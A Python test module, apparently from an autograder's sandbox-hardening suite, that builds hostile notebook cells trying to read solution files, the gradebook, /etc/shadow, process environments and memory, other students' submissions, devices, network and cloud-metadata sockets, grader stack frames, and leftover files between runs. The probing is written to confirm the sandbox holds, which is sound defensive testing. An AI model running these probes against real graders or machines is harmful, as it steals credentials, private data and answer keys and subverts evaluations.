"""Leaks: scratch cells that look for what is none of theirs and print it, or send it away.

What they find would stand in the autograded notebook: no trap's secret may be there. The answers
beside them are right, and keep their marks.
"""

from __future__ import annotations

from collections.abc import Iterator

from attacks.corpus import PORT, ROOT, SOCKET, Attack, Submission, combined, data, notebook, put

FILES = [
    "{root}/solutions/ch21_packed_sequence/ch21_packed_sequence.py",
    "{root}/autograde/exercises/ch21_packed_sequence.py",
    "{root}/autograde/judge.py",
    "/course/autograde/exercises/ch21_packed_sequence.py",
    "{root}/gradebook.db",
    "{root}/grading/reports",
    "/etc/passwd", "/etc/shadow", "/etc/hostname", "/root/.bashrc", "/root", "/home", "/work",
]  # fmt: skip

ATTACKS = [
    Attack("answer-key", "the solutions, the oracles, the gradebook and the system's accounts", f"""
import os
from pathlib import Path
for name in {[name.format(root=ROOT) for name in FILES]!r}:
    path = Path(name)
    try:
        print(name, sorted(os.listdir(path)) if path.is_dir() else path.read_text()[:200])
    except OSError as error:
        print(name, error)
"""),
    Attack("imports-the-key", "the oracles by import", """
import sys
for name in ("autograde", "autograde.exercise", "autograde.exercises.ch21_packed_sequence"):
    try:
        print("imported", __import__(name))
    except ImportError as error:
        print(error)
"""),
    Attack("environment", "the grader's environment, its own and that of pid 1", """
import os
print(dict(os.environ))
for pid in ("1", "self", str(os.getppid())):
    try:
        print(pid, open(f"/proc/{pid}/environ", "rb").read())
    except OSError as error:
        print(pid, error)
"""),
    Attack("other-processes", "other processes' root, memory, descriptors and command lines", """
import os
for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) == os.getpid():
        continue
    for what in ("root", "cwd", "fd"):
        try:
            print(pid, what, os.listdir(f"/proc/{pid}/{what}"))
        except OSError as error:
            print(pid, what, error)
    for what in ("cmdline", "mem"):
        try:
            print(pid, what, open(f"/proc/{pid}/{what}", "rb").read(100))
        except OSError as error:
            print(pid, what, error)
"""),
    Attack("descriptors", "descriptors inherited from the grader", """
import os
for number in range(256):
    try:
        print(number, os.readlink(f"/proc/self/fd/{number}"))
        if number > 3:
            print(os.pread(number, 1000, 0))
    except OSError:
        pass
"""),
    Attack("classmates", "other people's submissions, by name and by search", """
import glob, os
for pattern in ("/*/*/submitted*", "/*/*/gradebook*", "/tmp/**", "/dev/shm/**", "/box/**",
                "/mnt/**", "/var/**", "/run/**", "/course/**"):
    print(pattern, [p for p in glob.glob(pattern, recursive=True) if "/proc/" not in p][:40])
"""),
    Attack("network", "the internet, this machine, name servers, and sockets of every kind", f"""
import socket
def attempt(what, make):
    try:
        print(what, make())
    except OSError as error:
        print(what, error)
def send(family, kind, address):
    with socket.socket(family, kind) as one:
        one.settimeout(0.2)
        one.connect(address)
        one.sendall(b"hello")
        return "sent"
for host in ("127.0.0.1", "1.1.1.1", "169.254.169.254"):
    attempt(("tcp", host), lambda: send(socket.AF_INET, socket.SOCK_STREAM, (host, {PORT})))
    attempt(("udp", host), lambda: send(socket.AF_INET, socket.SOCK_DGRAM, (host, {PORT})))
attempt("tcp6", lambda: send(socket.AF_INET6, socket.SOCK_STREAM, ("::1", {PORT})))
attempt("unix", lambda: send(socket.AF_UNIX, socket.SOCK_STREAM, {SOCKET!r}))
attempt("abstract", lambda: send(socket.AF_UNIX, socket.SOCK_STREAM, "\\0" + {SOCKET!r}))
attempt("name", lambda: socket.getaddrinfo("example.com", 80))
attempt("netlink", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).bind((0, 0)))
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3))
"""),
    Attack("devices", "disks, kernel memory, terminals and the kernel's settings", """
import os
print(os.listdir("/dev"), os.listdir("/dev/pts"))
for name in ("/dev/mem", "/dev/kmsg", "/dev/vda", "/dev/tty", "/dev/console", "/proc/kcore",
             "/proc/kallsyms", "/proc/keys", "/proc/sysrq-trigger", "/sys", "/proc/config.gz"):
    try:
        print(name, os.open(name, os.O_RDONLY))
    except OSError as error:
        print(name, error)
"""),
    Attack("shell", "all the above by shell commands", f"""
import subprocess
for command in ("cat {ROOT}/gradebook.db /root/.bashrc", "find / -xdev -maxdepth 4 -name 'ch21*.py'",
                "env", "ls -la / /mnt /box /tmp /course", "id", "mount", "ip addr", "ps aux"):
    ran = subprocess.run(command, shell=True, capture_output=True, text=True)
    print(command, ran.stdout[:1500], ran.stderr[:300])
"""),
]  # fmt: skip
CELLS = [Attack(a.name, a.tries, a.source, "cell") for a in ATTACKS]

LEFT = """
import os
for folder in ("/tmp", "/dev/shm", "/box"):
    print(folder, [name for name in os.listdir(folder) if "left" in name])
    with open(f"{folder}/left-behind", "w") as file:
        file.write("left-by-an-earlier-submission")
print("looked for what others left")
"""
INPUTS = """
import gc, sys
found = [o for o in gc.get_objects() if type(o) is dict and "expected" in o]
frames = []
frame = sys._getframe()
while frame is not None:
    frames.append((frame.f_code.co_name, sorted(frame.f_locals)))
    frame = frame.f_back
print("expected values", [list(o) for o in found], frames)
"""


def submissions() -> Iterator[Submission]:
    """All of them in one, and two that look for what the other one left."""
    yield from combined(
        "leaks", [*CELLS, Attack("reads-frames", "expected values", INPUTS, "cell")]
    )
    for number in (1, 2):
        left = data(put(notebook(), LEFT, 3))
        tries = "files that an earlier submission left, to pass answers on"
        yield Submission(f"leftovers-{number}", tries, left, expected=dict.fromkeys(_names(), 1.0))


def _names() -> list[str]:
    from attacks.corpus import right_answers

    return list(right_answers())
